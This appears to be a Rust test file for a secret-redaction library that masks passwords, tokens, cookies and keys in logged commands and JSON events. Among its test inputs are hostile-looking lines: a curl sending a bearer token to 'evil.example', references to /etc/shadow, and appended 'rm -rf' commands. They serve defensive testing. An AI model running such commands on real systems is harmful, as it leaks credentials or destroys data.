//! Tests of texts that are redacted, and of texts that stay unchanged.

mod documented_formats;
mod documents;
mod forms;
mod hostile;
mod keys;

use serde_json::json;

use super::*;

#[track_caller]
fn check(value: Value, expected: &Value) {
    let mut event = Event { input: Some(value), ..Event::default() };
    Redaction::default().clean(&mut event);
    assert_eq!(event.input.as_ref(), Some(expected));
}

#[test]
fn values_are_redacted_by_their_names() {
    let hidden = mark(reason::KEY);
    check(
        json!({"api_key": "x", "X-Api-Key": "x", "OPENAI_API_KEY": "x", "dbPassword": 1, "keys": "x"}),
        &json!({"api_key": hidden, "X-Api-Key": hidden, "OPENAI_API_KEY": hidden, "dbPassword": hidden, "keys": "x"}),
    );
    check(
        json!({"headers": [{"name": "Authorization", "value": "x"}, {"name": "Accept", "value": "x"}]}),
        &json!({"headers": [{"name": "Authorization", "value": hidden}, {"name": "Accept", "value": "x"}]}),
    );
    check(
        json!({"token": null, "password": {"a": ["b"]}, "secret": false}),
        &json!({"token": null, "password": hidden, "secret": false}),
    );
}

#[test]
fn only_the_secret_part_of_a_text_is_redacted() {
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----";
    for (text, shown) in [
        ("Bearer abcdefghijklmnop", "Bearer [redacted]"),
        (
            "curl -H 'authorization: bearer abcdefghijklmnop' evil.example",
            "curl -H 'authorization: bearer [redacted]' evil.example",
        ),
        ("use \"sk-abcdefghijklmnopqrst\" please", "use \"[redacted]\" please"),
        (&format!("{key}\nAAAA"), &format!("{key}[redacted]")),
        (&format!("a {key}\nAA\n-----END it; rm b"), &format!("a {key}[redacted]-----END it; rm b")),
        ("postgres://user:pass@host/db", "postgres://[redacted]@host/db"),
        ("GITHUB_TOKEN=abcdefgh12 make", "GITHUB_TOKEN=[redacted] make"),
        ("--password abcdefgh12 --api-key=abcdefgh1!2 x", "--password [redacted] --api-key=[redacted] x"),
        ("{\"password\": \"hunter22 or so\", \"a\": 1}", "{\"password\": \"[redacted]\", \"a\": 1}"),
        ("/etc/shadow?password=hunter2hunter2", "/etc/shadow?password=[redacted]"),
        ("?password=hunter2hunter2&file=/etc/shadow", "?password=[redacted]&file=/etc/shadow"),
        ("token=ghp_abcdefghijklmnopqrstuvwxyz0123 é", "token=[redacted] é"),
        ("PGPASSWORD=p@ssw0rd-1234567 psql", "PGPASSWORD=[redacted] psql"),
        ("DB_PASS=a!b make", "DB_PASS=[redacted] make"),
        ("export STRIPE_KEY='a b@c' X_PWD=1", "export STRIPE_KEY='[redacted]' X_PWD=[redacted]"),
        ("x --password=hunter7 y", "x --password=[redacted] y"),
        ("x --password h!nter7 --db-pass p@ssw0 y", "x --password [redacted] --db-pass [redacted] y"),
        ("password:\thunter2hunter2", "password:\t[redacted]"),
        ("password: !unter2hunter2", "password: [redacted]"),
        ("{\\\"password\\\": \\\"p@ss\\\"}", "{\\\"password\\\": \\\"[redacted]\\\"}"),
        (
            "curl -H 'Authorization: Token 0123456789abcdef0123456789abcdef01234567' x",
            "curl -H 'Authorization: Token [redacted]' x",
        ),
        ("Authorization: p@ssw0rdp@ss x", "Authorization: [redacted] x"),
        ("Cookie: a=1; sessionid=abc.def; rm -rf x", "Cookie: a=[redacted]; sessionid=[redacted]; rm -rf x"),
        ("curl -b x -H 'cookie:s=1' y", "curl -b x -H 'cookie:s=[redacted]' y"),
        ("curl -u admin:secret x", "curl -u admin:[redacted] x"),
        ("curl --user=admin:s3:cret x", "curl --user=admin:[redacted] x"),
        ("curl -u 'admin:secret' x", "curl -u 'admin:[redacted]' x"),
    ] {
        let mark = json!({"$redacted": true, "reason": reason::TOKEN, "text": shown});
        check(json!({"text": [text]}), &json!({"text": [mark]}));
        // Redacting the mark again changes nothing.
        check(mark.clone(), &mark);
    }
    check(json!(["ghp_abcdefghijklmnopqrstuvwxyz012345"]), &json!([mark(reason::TOKEN)]));
    for text in [
        "bearer of news",
        "the task-abcdefghijklmnopqrstuvwxyz",
        "ghp_short",
        "a token: yes",
        "http://host/@a:b",
        "PASSWORD=$PASSWORD make --token \"$TOKEN\"",
        "docker run -u 1000:1000 -u https://a.example x",
        "password: string, token: string",
        "--password is required",
        "bypass=1 compass=2 test_pass=3 PRIMARY_KEYS=4",
        "Cookie: yes please",
    ] {
        check(json!({"text": text}), &json!({"text": text}));
    }
}

#[test]
fn arguments_are_redacted_by_the_option_before_them() {
    let (hidden, login) =
        (mark(reason::KEY), json!({"$redacted": true, "reason": reason::TOKEN, "text": "me:[redacted]"}));
    check(
        json!(["x", "--password", "hunter2", "--db-pass", "a", "-passwd", "b", "--verbose", "c"]),
        &json!(["x", "--password", hidden, "--db-pass", hidden, "-passwd", hidden, "--verbose", "c"]),
    );
    check(json!(["curl", "-u", "me:secret", "me:secret"]), &json!(["curl", "-u", login, "me:secret"]));
    for plain in [
        json!(["--password", "--verbose", "x"]),
        json!(["--password", 7, "x"]),
        json!(["password", "x", "--token-file", "y", "-u", "root", "-u", "0:0", "--password"]),
        json!(["--password", ""]),
    ] {
        check(plain.clone(), &plain);
    }
    check(json!({"DB_PASS": "x", "pass": "x"}), &json!({"DB_PASS": hidden, "pass": "x"}));
}

#[test]
fn a_caller_can_add_rules() {
    let redaction = Redaction::default().name("Badge").token("acme_", 4).known(Secret::new("canary"));
    let mut event = Event {
        input: Some(json!({"myBadge": "1", "a": "acme_1234", "b": "a canary sings", "canary": 1})),
        ..Event::default()
    };
    event.subject.path = Some("/home/canary".into());
    redaction.clean(&mut event);
    let expected = json!({
        "myBadge": mark(reason::KEY),
        "a": mark(reason::TOKEN),
        "b": {"$redacted": true, "reason": reason::KNOWN, "text": "a [redacted] sings"},
        "[redacted] 0": 1,
    });
    assert_eq!(event.input, Some(expected));
    assert_eq!(event.subject.path.as_deref(), Some("/home/[redacted]"));
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

    /// A text is searched only for forms that its characters allow. The skipped searches would find nothing.
    #[test]
    fn skipped_searches_find_no_secret(
        pieces in proptest::collection::vec(
            proptest::sample::select(vec![
                "-----BEGIN ", "PRIVATE KEY", "-----", "-----END ", "\n", "https", "://", "me", ":", "pass", "@", "/",
                "token", "--api-key", "=", " ", "\"", "'", "abcdefgh", "abcdefghijklmnopqrstu", "Bearer ", "sk-",
                "ghp_", "é", "\\", "_", "-", "[redacted]", "curl -u ", "mysql -p", " --password ", "<password>", "</", "?sig=",
                "Authorization: Digest ", "machine h login u password ", "pwd=", "\u{200b}", ";", "=>", "key=\"token\" value=\"",
                "set -gx ", "#define ", "GITHUB_PAT", "a1b2c3d4", "\"token\", \"", "https://discord.com/api/webhooks/1/", "bot123456:AA", "echo ",
                " | sudo -S", "<<< ", "h:5432:d:u:", "@tcp(", "8Q~", "header X-Api-Key ", "::new(\"",
 "{\"value\":\"", "\"name\":\"password\"", "}", "? ", "/* x */", "// x\n", "# x\n", "&a ", "!t ", "|\n",
                "kind: Secret", "\ndata:\n  a: ", "LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0t",
            ]),
            0..10,
        ),
    ) {
        let (text, redaction) = (pieces.concat(), Redaction::default());
        let named = |name: &str| redaction.names.classify(name);
        let (mut places, mut found) = (Vec::new(), Vec::new());
        private_key::private_keys(&text, &mut places);
        token_patterns::logins(&text, &mut places);
        link::links(&text, &mut places);
        link::bot_tokens(&text, &mut places);
        link::database_logins(&text, &mut places);
        link::pgpass_lines(&text, &mut places);
        object::objects(&text, named, &mut places);
        token::azure_secrets(&text, &mut places);
        token_patterns::tokens(&text, &redaction.tokens, &redaction.byte_classes, &mut places);
        token_patterns::assignments(&text, named, &mut places);
        pair::secret_manifests(&text, &mut places);
        line::lines(&text, named, &mut places);
        argument::arguments(&text, named, &mut places);
        places.sort_unstable_by_key(|place| (place.start, place.end));
        redaction.find_plain(&text, &mut found);
        found.sort_unstable_by_key(|place| (place.start, place.end));
        proptest::prop_assert_eq!(found, places);
    }
}

#[test]
fn digests_of_redacted_values_are_removed() {
    let hidden = |value: &Value| value["sha256"] == mark(reason::DIGEST);
    let check = |value: Value, expected: bool| {
        let mut event = Event { input: Some(value.clone()), ..Event::default() };
        Redaction::default().clean(&mut event);
        assert_eq!(event.input.as_ref().is_some_and(hidden), expected, "{value}");
    };
    check(json!({"prompt": "hello", "bytes": 5, "sha256": "ab"}), false);
    check(json!({"prompt": "my password=hunter2hunter2", "bytes": 26, "sha256": "ab"}), true);
    check(json!({"deep": [{"token": "1234"}], "sha256": "ab"}), true);
    check(json!({"pin": Secret::new("1234"), "sha256": "ab"}), true);
    check(json!({"inner": {"sha256": "ab"}, "text": "plain"}), false);
    assert!(Redaction::default().is_in(json!([{"password": "1"}])));
    assert!(!Redaction::default().is_in(json!([{"pass": "1"}])));
}

#[test]
fn a_mark_stays_unchanged() {
    let typed = json!({"password": Secret::new("x")});
    check(typed.clone(), &typed);
}

/// The secret in the texts of the following tests.
const S: &str = "Zx9$kLm2Qp7w";

/// Checks that every text contains the secret, and that redaction removes it and is idempotent.
#[track_caller]
fn check_hidden(value: &Value) {
    let mut event = Event { input: Some(value.clone()), ..Event::default() };
    Redaction::default().clean(&mut event);
    let once = event.input.clone().unwrap();
    let text = once.to_string();
    assert!(!text.contains("Zx9") && !text.contains("kLm2Qp"), "{value}\n{text}");
    Redaction::default().clean(&mut event);
    assert_eq!(event.input, Some(once), "{value}");
}

#[test]
fn secrets_in_commands_are_recognized_by_options() {
    for line in [
        "curl -uname:SECRET https://a.example",
        "curl -u 'name:SECRET' https://a.example",
        "curl -Uname:SECRET x",
        "http -a name:SECRET x",
        "sshpass -p SECRET ssh host",
        "sshpass -pSECRET ssh host",
        "sshpass -p 'SECRET with blanks' ssh host",
        "mysql -u root -pSECRET db",
        "/usr/bin/mysqldump -uroot -pSECRET db > x",
        "cd x && mariadb -pSECRET",
        "docker login -u me -p SECRET registry.example",
        "podman login -p=SECRET x",
        "az login -u me -p SECRET",
        "redis-cli -h x -a SECRET ping",
        "mongosh -u me -p SECRET x",
        "openssl rsa -in a -passin pass:SECRET -out b",
        "openssl enc -aes-256-cbc -pass pass:SECRET -in a",
        "openssl enc -k SECRET -in a",
        "zip -P SECRET a.zip b",
        "7z a -pSECRET a.7z b",
        "ldapsearch -x -w SECRET -b dc=x",
        "smbclient //h/s -U me%SECRET",
        "lftp -u me,SECRET h",
        "sqlcmd -S h -U sa -P SECRET",
        "plink -pw SECRET h",
        "xfreerdp /u:me /p:SECRET /v:h",
        "snmpget -v3 -A SECRET h",
        "doctl auth init -t SECRET",
        "keytool -genkey -storepass SECRET -keypass SECRET",
        "influx -username me -password SECRET",
        "wget --password=SECRET --http-password SECRET x",
        "gpg --batch --passphrase SECRET -d x",
        "New-Thing -Password SECRET -Force",
        "ConvertTo-SecureString SECRET -AsPlainText -Force",
        "ConvertTo-SecureString \"SECRET\" -AsPlainText",
        "aws configure set aws_secret_access_key SECRET",
        "npm config set //registry.npmjs.org/:_authToken SECRET",
        "git config --global github.token SECRET",
        "pip config set global.password SECRET",
        "sh -c \"mysql -pSECRET db\"",
        "X=1 PGPASSWORD=SECRET psql",
        "kubectl create secret generic x --from-literal=password=SECRET",
        "java -Djavax.net.ssl.keyStorePassword=SECRET -jar x",
        "mount -o username=me,password=SECRET //h/s /m",
    ] {
        let line = line.replace("SECRET", S);
        check_hidden(&json!({"command": line}));
        check_hidden(&json!(["sh", "-c", line]));
        check_hidden(&json!({"log": format!("ran:\n$ {line}\nok")}));
        let words: Vec<&str> = line.split(' ').collect();
        if !line.contains(['\'', '"', '&', '>', '=']) {
            check_hidden(&json!({"command": words[0], "args": words[1..]}));
            check_hidden(&json!({"argv": words}));
        }
    }
}

#[test]
fn secrets_in_texts_are_recognized_by_names() {
    for text in [
        "password=SECRET",
        "Pwd=SECRET;Server=x",
        "pwd: SECRET",
        "user_pw=SECRET",
        "bearer: SECRET",
        "'password' => 'SECRET'",
        "password := \"SECRET\"",
        "p\u{200b}assword=SECRET",
        "p\u{430}ssword: SECRET",
        "<password>SECRET</password>",
        "<a:Password>SECRET</a:Password>",
        "<add key=\"DbPassword\" value=\"SECRET\"/>",
        "{\"name\": \"API_KEY\", \"value\": \"SECRET\"}",
        "machine h login me password SECRET",
        "machine h\n  login me\n  password SECRET\n",
        "default login me password SECRET",
        "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=SECRET;EndpointSuffix=x",
        "Endpoint=sb://a/;SharedAccessKeyName=Root;SharedAccessKey=SECRET",
        "Server=h;User Id=sa;Password=SECRET;",
        "https://b.example/o?X-Amz-Credential=a&X-Amz-Signature=SECRET&x=1",
        "https://b.example/o?X-Goog-Signature=SECRET",
        "https://b.example/c?sv=1&sr=b&sig=SECRET",
        "https://b.example/c?Signature=SECRET&Key-Pair-Id=1",
        "https://b.example/?access_token=SECRET",
        "amqp://me:SECRET@h/v",
        "mongodb+srv://me:SECRET@h/db",
        "X-Api-Key: SECRET",
        "Authorization: SECRET",
        "authorization: Bearer SECRET",
        "Proxy-Authorization: Basic SECRET",
        "Authorization: Digest username=\"me\", response=\"SECRET\"",
        "curl -H 'Authorization: AWS4-HMAC-SHA256 Credential=a, Signature=SECRET' x",
        "Set-Cookie: sid=SECRET; Path=/",
        "Cookie: a=1; b=SECRET",
        "[default]\naws_secret_access_key = SECRET\n",
        "export API_TOKEN='SECRET'",
        "db:\n  password: SECRET\n",
        "{\\\"password\\\":\\\"SECRET\\\"}",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nSECRET\n-----END PGP PRIVATE KEY BLOCK-----",
        "//r.example/:_authToken=SECRET",
    ] {
        let text = text.replace("SECRET", S);
        check_hidden(&json!(text));
        check_hidden(&json!({"a": [format!("before {text}")]}));
    }
}

#[test]
fn values_of_every_form_are_redacted_by_name() {
    for value in [
        json!({"passwords": {"root": S, "me": [S]}}),
        json!({"passwords": [S, S]}),
        json!({"pwd": S, "user_pw": S, "bearer": S, "Pwd": S, "userPw": S}),
        json!({"headers": [["X-Api-Key", S], ["Accept", "x"]]}),
        json!({"rawHeaders": ["Accept", "x", "X-Api-Key", S, "Authorization", S]}),
        json!({"p\u{200b}assword": S, "pаsswоrd": S, "ｐａｓｓｗｏｒｄ": S}),
        json!({"tokens": {"me": S}, "cookies": {"sid": S}, "apiKeys": [S]}),
        json!({"key": "password", "value": S}),
    ] {
        check_hidden(&value);
    }
}

#[test]
fn tokens_are_recognized_by_their_prefixes() {
    for (start, least) in token::TOKENS {
        let token = format!("{start}{}", "a1B2c3D4e5".repeat(4));
        for text in
            [token.clone(), format!("use {token}, please"), format!("x={token}"), format!("(\"{token}\")")]
        {
            let found = Redaction::default().hide(&text).map(|hidden| hidden.text).unwrap_or_default();
            assert!(found.contains(PLACEHOLDER) && !found.contains("a1B2c3D4"), "{text}: {found}");
        }
        assert!(*least >= 10, "{start}");
    }
    assert!(
        token::TOKENS.is_sorted_by_key(|(start, _)| start.as_bytes()[0]),
        "they are found by their first byte"
    );
    assert!(Redaction::default().is_secret("nrw_0123456789abcdefghijABCDEFGHIJ"));
}

/// Texts without secrets are not changed, because a reader of the log must see what was done.
#[test]
fn harmless_lines_stay_as_they_are() {
    for text in [
        "docker run -p 8080:80 -u 1000:1000 nginx",
        "mysql -p mydb",
        "mysql -P 3306 -h db.example",
        "ssh -p 2222 host",
        "mkdir -p a/b/c && cp -a x y",
        "rsync -a --delete src/ dst/",
        "git push -u origin main",
        "git config user.name someone",
        "git config --global core.editor vim",
        "npm config set registry https://registry.npmjs.org/",
        "aws s3 cp a s3://b/c --region eu-west-1",
        "curl -a x -A agent https://a.example/path",
        "zip -r a.zip b",
        "7z a a.7z b",
        "openssl x509 -in cert.pem -noout",
        "tar -p -xf a.tar",
        "sort -u names | uniq -c",
        "PWD=/home/me make",
        "pwd: /work/project",
        "{\"cwd\": \"/work\", \"pwd\": \"/work\"}",
        "max_tokens: 4096, input tokens: 12345678",
        "the password is required to log in with your login name",
        "set the password before you add a key",
        "please login and change password",
        "see https://a.example/?page=2&sort=key&code=404",
        "<key>name</key><value>x</value>",
        "if a => b then c := d",
        "fn token(&self) -> Token { self.token }",
        "let key = names.of(key);",
        "assert_eq!(token, expected);",
        "password: string",
        "const password: string = props.password;",
        "The bearer of this",
        "authentication failed for user me",
        "cargo test -p narrows-audit redact",
        "cargo nextest run -p narrows --no-fail-fast",
        "python3 -m pip install -U pip",
        "chmod -R u+rwX,go-w /srv/a:b",
        "error[E0308]: mismatched types --> src/main.rs:10:5",
    ] {
        let found = Redaction::default().hide(text).map(|hidden| hidden.text);
        assert_eq!(found, None);
    }
    for value in [
        json!({"usage": {"input_tokens": 5, "output_tokens": 6, "tokens": 11}, "max_tokens": 1024, "maxTokens": 2}),
        json!({"sessionId": "0b1c2d3e-0000-4000-8000-000000000000", "cwd": "/work", "pwd": "/work/a"}),
        json!({"key": "name", "value": "a value of it"}),
        json!(["token", "list"]),
        json!(["git", "commit", "-m", "change the password page"]),
        json!({"command": "docker", "args": ["run", "-p", "8080:80", "x"]}),
        json!({"command": "mysql", "args": ["-p", "mydb"]}),
        json!([["Accept", "application/json"], ["Content-Type", "text/plain"]]),
    ] {
        check(value.clone(), &value);
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(1500))]

    /// Redaction is idempotent and does not panic, for any text.
    #[test]
    fn redacting_twice_is_redacting_once(
        pieces in proptest::collection::vec(
            proptest::sample::select(vec![
                "password", "token", "=", ":", " ", "  ", "\"", "'", "\\", "\n", "curl ", "-u ", "-u", "a:b", "mysql ", "-p", "sshpass ",
                "Zx9$kLm2Qp7w", "Bearer ", "Authorization: ", "Digest ", "AWS4-HMAC-SHA256 ", "Cookie: ", "a=", ";", "&", "?sig=", "<password>",
                "</password>", "=>", ":=", "-----BEGIN PRIVATE KEY-----", "-----END ", "://", "@", "/", "é", "\u{200b}", "пароль", "[redacted]",
                "[", "]", "--password", " -password ", "key", "name=", "value=", "machine ", "login ", "aws configure set ", "pass:", "openssl -pass ",
                "ghp_abcdefghijklmnopqrstuvwxyz012345", ",", "%", "pwd", "_KEY", "X-Api-Key",
                "p%61ssword", "%3D", "%20", "\\u0061", "\\u0022", "&quot;", "set -gx ", "#define ", "GITHUB_PAT", "\"token\", \"", "auth=(",
                "https://discord.com/api/webhooks/1/", "https://hooks.slack.com/services/", "bot123456:AA", "echo ", " | sudo -S", "<<< ",
                "h:5432:d:u:", "@tcp(", "8Q~", "header X-Api-Key ", "::new(\"", "{\"value\":\"", "<a name=\"token\">", "(", ")", "env:",
                "\"name\":\"password\"", "{", "}", "? ", "/* x */", "// x\n", "# x\n", "&a ", "!t ", "|\n", "\\\n  ", "Bearer\n  ",
                "- value: ", "\n  name: password", "<value>", "</value><name>password</name>", "<![CDATA[", "]]>",
                "kind: Secret", "data:\n  a: ", "\n---", "LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0t",
            ]),
            0..12,
        ),
    ) {
        let (text, redaction) = (pieces.concat(), Redaction::default());
        if let Some(once) = redaction.hide(&text) {
            let twice = redaction.hide(&once.text).map(|hidden| hidden.text);
            proptest::prop_assert_eq!(twice, None, "{:?} -> {:?}", text, once.text);
        }
    }

    /// Comments, tags and line breaks can surround a delimiter in any order.
    #[test]
    fn a_value_is_redacted_in_any_layout(
        pieces in proptest::collection::vec(
            proptest::sample::select(vec![
                ":", "\t:", " :", "=", "\n", "\n :", "\t", " ", "\\n", "\\\n", "/*", "*/", "//", "\"a\" // ", " # ", "\n? a", "\"", "password",
                "é", "- ", "!t ", "&a ", "|", "{", "1", "Authorization: Bearer\n ", "Zx9$kLm2Qp7w",
            ]),
            0..16,
        ),
    ) {
        let (text, redaction) = (pieces.concat(), Redaction::default());
        if let Some(once) = redaction.hide(&text) {
            let twice = redaction.hide(&once.text).map(|hidden| hidden.text);
            proptest::prop_assert_eq!(twice, None, "{:?} -> {:?}", text, once.text);
        }
    }

    #[test]
    fn any_text_is_redacted_without_a_panic(text in "\\PC{0,80}", more in ".{0,40}") {
        for text in [text.clone(), format!("{text} --password {more}"), format!("{text}={more}"), format!("<{text}>{more}<")] {
            let mut event = Event { input: Some(json!({"text": text, "list": [text, more]})), ..Event::default() };
            Redaction::default().clean(&mut event);
        }
    }
}

/// A comment that is removed may contain a delimiter with a gap around it.
#[test]
fn a_delimiter_in_a_comment_is_ignored() {
    check(json!("\"a\" // c\t:b\n : \"x\""), &json!("\"a\" // c\t:b\n : \"x\""));
}

/// A value does not end at a character that may be a part of the value.
#[test]
fn a_value_is_redacted_up_to_its_end() {
    let key = |body: &str| format!("-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----");
    for text in [
        "PGPASSWORD=Zx9aa,Zx9bb psql",
        "PGPASSWORD=\"Zx9aa\"Zx9bb psql",
        "PASSWORD='Zx9aa'\"Zx9bb\" x",
        "PASSWORD=Zx9aa\\ Zx9bb x",
        "mysql --password=Zx9aa]Zx9bb x",
        "mysql --password \"Zx9aa Zx9bb\"",
        "git clone https://user:Zx9aa/Zx9bb@host/x",
        "git clone https://Zx9aa11223344@github.com/x",
        "psql \"postgres://u:Zx9a?Zx9b@h/db\"",
        "psql \"postgres://u:Zx9a#Zx9b@h/db\"",
        "password:\n  Zx9aa11",
        "a: 1\npassword: |\n  Zx9aa11\n  Zx9bb\nb: 2",
        "{\"password\":\n\"Zx9aa11\"}",
        "{\"passwords\": [\"Zx9aa11\",\"Zx9bb22\"]}",
        "password = \"\"\"\nZx9aa11\"\"\"",
        "PASSWORD='$AZx9aa11'",
        "password=[redacted]Zx9aa11",
        "PASSWORD=\"[redacted] Zx9aa11bb\"",
        "AWS_SECRET_ACCESS_KEY=Zx9/abc+def,Zx9",
        "openssl enc -aes-256-cbc -pass pass:Zx9aa11,Zx9bb",
        "{\"password\": \"Zx9a\\\"Zx9b\"}",
        "{\\\"password\\\": \\\"Zx9a\\\\\\\"Zx9b\\\"}",
        &key("Zx9-----END \nZx9bbbb"),
        &key(&format!("{}Zx9", "Q".repeat(17_000))),
        "-----BEGIN RSA PRIVATE KEY-----[redacted]\nZx9",
        "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nZx9aa\n",
        "PuTTY-User-Key-File-3: x\nPrivate-Lines: 1\nZx9aa\nPrivate-MAC: x",
    ] {
        check_hidden(&json!(text));
        check_hidden(&json!({"command": text}));
    }
    check_hidden(&json!({"env": ["DB_PASS=Zx9aa,Zx9bb"]}));
    check_hidden(&json!({format!("{}_PASSWORD", "A".repeat(100)): "Zx9"}));
    check_hidden(&json!(format!("{}_PASSWORD=Zx9", "A".repeat(100))));
}

#[test]
fn variants_of_known_names_and_options_are_recognized() {
    for text in [
        "password1=SECRET",
        "PASSWORD_2=SECRET",
        "db_password_prod: SECRET",
        "ansible_become_pass=SECRET",
        "_auth=SECRET",
        "SSHPASS=SECRET sshpass -e ssh x",
        "curl -su name:SECRET x",
        "curl -sSuname:SECRET x",
        "curl -E c.pem:SECRET x",
        "curl --cert c:SECRET x",
        "curl -b \"session=SECRET\" x",
        "curl --cookie session=SECRET x",
        "curl -d pass=SECRET x",
        "mount -o pass=SECRET x",
        "htpasswd -b f user SECRET",
        "sqlplus u/SECRET@h",
        "ssh-keygen -t rsa -N SECRET -f x",
        "twine upload -p SECRET x",
        "vault login SECRET",
        "cargo login SECRET",
        "gh secret set X -b SECRET",
        "fly secrets set X=SECRET",
        "kubectl create secret generic x --from-literal=foo=SECRET",
        "ENV API_KEY SECRET",
        "setx API_KEY SECRET",
        "ALTER USER bob WITH PASSWORD 'SECRET'",
        "CREATE USER bob IDENTIFIED BY 'SECRET'",
        "echo 'root:SECRET' | chpasswd",
        "os.environ['API_KEY']='SECRET'",
        "const password: string = \"SECRET\";",
        "password(\"SECRET\")",
        "password: `SECRET`",
        "<Password Type=\"x\">SECRET</Password>",
        "SharedAccessSignature=SECRET",
        "curl -H \"X-Auth: SECRET\" x",
    ] {
        let text = text.replace("SECRET", S);
        check_hidden(&json!(text));
        check_hidden(&json!({"a": [format!("before {text}")]}));
    }
    for value in [
        json!({"pass": S, "creds": S, "auth": S, "tokenValue": S, "passwordOld": S}),
        json!({"k": "password", "v": S}),
        json!({"field": "password", "text": S}),
        json!({"key": "password", "data": S}),
    ] {
        check_hidden(&value);
    }
    for text in ["--- PASS: TestName (0.00s)", "tests_pass: 12", "auth: none", "token_count=4096", "pass=all"]
    {
        assert_eq!(Redaction::default().hide(text).map(|hidden| hidden.text), None);
    }
}
